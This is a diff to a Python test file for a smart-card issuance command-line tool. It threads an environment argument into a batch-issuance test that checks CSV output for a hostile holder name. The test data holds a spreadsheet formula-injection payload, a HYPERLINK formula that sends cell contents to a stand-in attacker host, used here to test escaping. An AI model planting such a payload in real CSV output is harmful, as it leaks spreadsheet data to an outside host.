@@ -20,13 +20,16 @@ from sscard.cli.main import cli
 from sscard.csvsafe import safe_cell, safe_row
 from sscard.issuance.batch import RowResult
 from tests.cardkit import SAMPLE_HOLDER
+from tests.operatorkit import env_in_store
 
 SSCARD = str(Path(sys.executable).with_name("sscard"))
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
 
 
-def run(*args: str, input: str | None = None) -> subprocess.CompletedProcess[str]:
-    env = {k: v for k, v in os.environ.items() if k != "SSCARD_READER"}
+def run(
+    *args: str, input: str | None = None, env: dict[str, str] | None = None
+) -> subprocess.CompletedProcess[str]:
+    env = {k: v for k, v in (env or os.environ).items() if k != "SSCARD_READER"}
     return subprocess.run(
         [SSCARD, *args], capture_output=True, text=True, input=input, env=env, timeout=120
     )
@@ -130,9 +133,10 @@ def test_batch_results_csv_with_a_hostile_holder_name(tmp_path: Path) -> None:
     ]
     holders.write_text("".join(json.dumps(h, ensure_ascii=False) + "\n" for h in rows))
     results = tmp_path / "results.csv"
-    store = str(tmp_path / "s.db")
-    r = run("issue", "--keystore", "dev", "--store", store, "batch", str(holders),
-            "--virtual", "1", "--skip-invalid", "--results", str(results))  # fmt: skip
+    store = tmp_path / "s.db"
+    r = run("issue", "--keystore", "dev", "--store", str(store), "batch", str(holders),
+            "--virtual", "1", "--skip-invalid", "--results", str(results),
+            env=env_in_store(store))  # fmt: skip
     assert results.exists(), r.stderr
     with results.open(newline="", encoding="utf-8") as f:
         cells = [cell for row in csv.reader(f) for cell in row]
